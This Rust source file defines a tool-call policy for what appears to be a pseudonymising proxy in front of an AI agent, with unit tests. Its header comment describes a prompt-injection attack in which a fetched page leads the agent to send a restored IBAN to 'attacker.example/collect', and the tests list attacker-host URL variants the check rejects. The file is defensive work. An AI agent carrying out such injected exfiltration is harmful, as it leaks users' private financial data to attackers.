//! Whether values may be restored into a tool call at all (a route's `tool_arguments`): an agent
//! acts on its tool calls by itself, so a prompt injected into a fetched page can have it send a
//! restored value to a host of the attacker's choosing through its own tools
//! (`{"url": "https://attacker.example/collect", "q": "[[IBAN_1]]"}`). The link rule keeps
//! values out of the URL; this policy keeps them out of the call (`docs/proxy.md`, "Tool calls").

use crate::config::ToolArguments;
use crate::json::{self, Node};

/// A route's policy for restoring into tool-call arguments.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ToolPolicy {
    mode: ToolArguments,
    /// Hosts a call may name under [`ToolArguments::NoUrls`] (lower case; their subdomains too).
    hosts: Vec<String>,
}

impl ToolPolicy {
    pub fn new(mode: ToolArguments, hosts: &[String]) -> ToolPolicy {
        let hosts = hosts
            .iter()
            .map(|h| h.trim().trim_end_matches('.').to_ascii_lowercase())
            .collect();
        ToolPolicy { mode, hosts }
    }

    /// Whether every call gets its values (the default): nothing to hold back or look at.
    pub fn restores_all(&self) -> bool {
        self.mode == ToolArguments::All
    }

    /// Whether no call gets values (`none`): nothing to look at either.
    pub fn withholds_all(&self) -> bool {
        self.mode == ToolArguments::None
    }

    /// Whether values may be restored into a tool call whose arguments hold the (decoded)
    /// strings `strings`.
    pub fn allows<'a>(&self, mut strings: impl Iterator<Item = &'a str>) -> bool {
        match self.mode {
            ToolArguments::All => true,
            ToolArguments::None => false,
            ToolArguments::NoUrls => strings.all(|s| self.urls_allowed(s)),
        }
    }

    /// [`ToolPolicy::allows`] for the decoded tool input `node` (its keys are the model's too).
    pub fn allows_input(&self, node: &Node) -> bool {
        if self.restores_all() {
            return true;
        }
        let mut strings = Vec::new();
        collect_strings(node, &mut strings);
        self.allows(strings.into_iter())
    }

    /// [`ToolPolicy::allows`] for tool-call arguments as JSON source text; arguments that do not
    /// parse get no values unless every call does.
    pub fn allows_source(&self, source: &str) -> bool {
        if self.restores_all() {
            return true;
        }
        json::parse(source).is_ok_and(|node| self.allows_input(&node))
    }

    /// Whether every URL in `s` (`scheme://host…`, `//host…`, `www.host…`) names an allowed
    /// host; one that does not parse counts as not allowed.
    fn urls_allowed(&self, s: &str) -> bool {
        // a URL parser reads `\` as `/` (`https:\\host`)
        let s = s.to_ascii_lowercase().replace('\\', "/");
        let mut starts: Vec<usize> = s.match_indices("//").map(|(i, _)| i).collect();
        starts.extend(s.match_indices("www.").map(|(i, _)| i));
        starts.into_iter().all(|at| {
            let end = s[at..]
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '<' | '>'))
                .map_or(s.len(), |e| at + e);
            let rest = &s[at..end];
            let candidate = if rest.starts_with("//") {
                format!("http:{rest}")
            } else {
                format!("http://{rest}")
            };
            match url::Url::parse(&candidate) {
                Ok(u) => u.host_str().is_some_and(|h| self.host_allowed(h)),
                Err(_) => false,
            }
        })
    }

    fn host_allowed(&self, host: &str) -> bool {
        let host = host.trim_end_matches('.');
        self.hosts.iter().any(|allowed| {
            host == allowed
                || host
                    .strip_suffix(allowed.as_str())
                    .is_some_and(|sub| sub.ends_with('.'))
        })
    }
}

fn collect_strings<'a>(node: &'a Node, out: &mut Vec<&'a str>) {
    match node {
        Node::Str(s) => out.push(s),
        Node::Arr(items) => items.iter().for_each(|i| collect_strings(i, out)),
        Node::Obj(members) => {
            for (k, v) in members {
                out.push(k);
                collect_strings(v, out);
            }
        }
        Node::Null | Node::Bool(_) | Node::Num(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_urls_allows_calls_naming_only_allowed_hosts() {
        let p = ToolPolicy::new(ToolArguments::NoUrls, &["crm.intern.example".into()]);
        for ok in [
            "kein Link",
            "https://crm.intern.example/a?b=c",
            "//api.crm.intern.example/x",
            "www.crm.intern.example/x",
        ] {
            assert!(p.allows([ok].into_iter()), "{ok}");
        }
        for no in [
            "https://attacker.example/collect",
            "siehe https:\\\\attacker.example",
            "https://crm.intern.example.attacker.example/",
            "https://evilcrm.intern.example/",
            "x www.attacker.example",
            "http://[::1:/",
        ] {
            assert!(!p.allows(["ok", no].into_iter()), "{no}");
        }
        assert!(ToolPolicy::default().allows(["https://a.example"].into_iter()));
        assert!(!ToolPolicy::new(ToolArguments::None, &[]).allows(std::iter::empty()));
    }
}
